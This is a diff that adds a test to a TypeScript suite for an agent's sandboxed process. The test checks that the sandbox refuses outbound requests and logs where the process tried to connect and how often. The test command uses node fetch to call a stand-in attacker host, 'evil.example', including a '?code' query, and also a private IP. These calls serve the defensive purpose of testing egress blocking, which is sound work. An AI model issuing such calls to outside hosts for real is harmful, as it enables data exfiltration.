@@ -99,6 +99,19 @@ describe('an agent with a process of its own', () => {
     expect(ports.calls).toHaveLength(2);
   });
 
+  it('that wants to go elsewhere is refused, and the transcript says where and how often', async (c) => {
+    if (f.sandbox.kind !== 'bwrap') return c.skip();
+    const go = (url: string) => `node -e 'fetch("${url}").catch(() => {})'`;
+    const r = await run(
+      `cat > /dev/null; ${go('https://evil.example/?code')}; ${go('https://evil.example/')}; ${go('http://10.0.0.1/')}; ${done}`,
+    );
+    expect(r).toMatchObject({ kind: 'done' });
+    const lines = r.ports.entries.flatMap((e) => (e.kind === 'harness' ? [String(e.data.text)] : []));
+    expect(lines.filter((l) => l.includes('wanted to reach evil.example:443'))).toHaveLength(1);
+    expect(lines.filter((l) => l.includes('wanted to reach 10.0.0.1:80'))).toHaveLength(1);
+    expect(lines).toContain('Refused altogether: evil.example:443 2 times.');
+  });
+
   it('says what is wrong when its key is refused, and when it is busy', async () => {
     const failing = (text: string) =>
       run(
